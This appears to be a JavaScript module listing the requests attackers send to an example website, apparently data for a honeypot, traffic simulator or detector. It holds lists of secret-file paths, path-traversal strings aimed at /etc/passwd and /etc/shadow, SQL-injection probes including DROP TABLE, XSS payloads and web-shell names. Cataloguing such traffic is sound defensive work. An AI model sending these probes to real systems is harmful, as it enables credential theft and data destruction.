// What attackers of the example web site ask for.

/** Names nobody linked, in no list of known attacks. */
export const missingPaths = (
  'old new beta demo dev stage staging portal intranet extranet private secure hidden tmp temp upload uploads files ' +
  'download downloads images2 static2 media2 scripts include includes lib libs modules plugins themes templates ' +
  'application apps api/v0 api/v9 rest soap wsdl rpc ajax service services webservice forum forums board bbs chat ' +
  'guestbook gallery photos webmail mail email newsletter stats statistics reports export import users members ' +
  'customers clients partners vendor archive archives logs cache sessions'
)
  .split(' ')
  .map((name, i) => (i % 3 === 0 ? `/${name}.php` : `/${name}/`));

export const secretPaths = (
  '.env .env.local .env.production .env.bak .git/config .git/HEAD .gitignore .svn/entries .hg/hgrc .htpasswd .htaccess ' +
  '.bash_history .bashrc .ssh/id_rsa id_rsa .aws/credentials .npmrc .docker/config.json .vscode/sftp.json .DS_Store ' +
  'wp-config.php.bak config.php~ database.sql backup.sql dump.sql.gz db.sqlite server.key composer.lock ' +
  'docker-compose.yml web.config.bak actuator/env actuator/heapdump'
)
  .split(' ')
  .map((name) => `/${name}`);

export const traversals = [
  '/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd',
  '/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/etc/passwd',
  '/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd',
  '/static/..%2f..%2f..%2fetc%2fpasswd',
  '/assets/%2e%2e/%2e%2e/%2e%2e/etc/shadow',
  '/download?file=../../../../etc/passwd',
  '/download?file=..%252f..%252f..%252fetc%252fhosts',
  '/download?file=....//....//....//etc/passwd',
  '/view?page=../../../../proc/self/environ',
  '/view?page=php://filter/convert.base64-encode/resource=index',
  '/view?page=..%5c..%5c..%5cwindows%5cwin.ini',
  '/view?page=%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd',
  '/view?lang=../../../../../../../../etc/group',
  '/view?tpl=..%2f..%2f..%2f..%2fboot.ini',
  '/images/..%2f..%2f..%2fvar%2flog%2fauth.log',
  '/show?doc=c:%5cwindows%5csystem32%5cdrivers%5cetc%5chosts',
  '/show?doc=/etc/ssh/sshd_config',
  '/help?topic=../../../etc/nginx/nginx.conf',
];

export const sqlProbes = [
  '1%27%20OR%20%271%27=%271',
  '1%27%20AND%201=1--%20-',
  '1%20AND%20SLEEP(5)',
  '1%27%20AND%20SLEEP(5)%23',
  '-1%20UNION%20SELECT%201,2,3--',
  '-1%20UNION%20ALL%20SELECT%20NULL,NULL,NULL--%20-',
  '1)%20UNION/**/SELECT/**/user(),database()--',
  '1%20ORDER%20BY%2010--',
  '1;WAITFOR%20DELAY%20%270:0:5%27--',
  '1%27;SELECT%20PG_SLEEP(5)--',
  '1%20AND%20EXTRACTVALUE(1,CONCAT(0x5c,(SELECT%20version())))',
  '1%20AND%20(SELECT%20COUNT(*)%20FROM%20information_schema.tables)%3E0',
  '1%27%20OR%20BENCHMARK(5000000,MD5(1))--',
  '1;DROP%20TABLE%20users--',
];

export const xssProbes = [
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '%22%3E%3Cscript%3Ealert(document.cookie)%3C/script%3E',
  '%3Cimg%20src=x%20onerror=alert(1)%3E',
  '%3Csvg/onload=alert(1)%3E',
  'javascript:alert(1)',
  '%22%20onmouseover=%22alert(1)',
  '%3Ciframe%20src=javascript:alert(1)%3E',
  '%3Cbody%20onload=alert(1)%3E',
  '%27%3Balert(String.fromCharCode(88,83,83))//',
  '%3Cdetails%20open%20ontoggle=prompt(1)%3E',
  'data:text/html,%3Cscript%3Ealert(1)%3C/script%3E',
  '%3Cinput%20autofocus%20onfocus=confirm(1)%3E',
];

export const shellNames = (
  'shell.php c99.php r57.php wso.php b374k.php alfa.php cmd.php backdoor.php webshell.php up.php mini.php leaf.php ' +
  'cmd.jsp shell.jsp cmdasp.aspx shell.aspx aspxspy.aspx wso2.php c99shell.php 1337.php uploader.php gel4y.php ' +
  'mailer.php symlink.php bypass.php marijuana.php'
).split(' ');

export const adminPaths = [
  '/phpmyadmin/index.php',
  '/phpMyAdmin-5.2.1/index.php',
  '/pma/index.php',
  '/mysqladmin/index.php',
  '/dbadmin/',
  '/adminer.php',
  '/pgadmin/',
  '/administrator/',
  '/admin/login.php',
  '/admin/index.php',
  '/admin/config.php',
  '/cpanel/',
  '/manager/html',
  '/host-manager/html',
  '/jmx-console/',
  '/jenkins/login',
  '/solr/admin/cores',
  '/zabbix/',
  '/grafana/login',
  '/boaform/admin/formLogin',
  '/owa/',
  '/remote/login',
  '/+CSCOE+/logon.html',
  '/dana-na/auth/url_default/welcome.cgi',
];

export const wordpressPaths = (
  'wp-admin/install.php wp-admin/setup-config.php wp-includes/wlwmanifest.xml blog/wp-includes/wlwmanifest.xml ' +
  'wp-content/plugins/akismet/readme.txt wp-content/plugins/contact-form-7/readme.txt ' +
  'wp-content/plugins/elementor/readme.txt wp-content/plugins/wp-file-manager/readme.txt ' +
  'wp-content/plugins/revslider/release_log.html wp-content/plugins/duplicator/readme.txt ' +
  'wp-content/plugins/woocommerce/readme.txt wp-content/plugins/wordpress-seo/readme.txt ' +
  'wp-content/themes/twentytwenty/readme.txt wp-content/themes/astra/readme.txt ' +
  'wp-content/plugins/loginizer/readme.txt wp-content/plugins/litespeed-cache/readme.txt ' +
  'wp-content/plugins/updraftplus/readme.txt wp-content/plugins/jetpack/readme.txt ' +
  'cms/wp-includes/wlwmanifest.xml site/wp-includes/wlwmanifest.xml'
)
  .split(' ')
  .map((path) => `/${path}`);
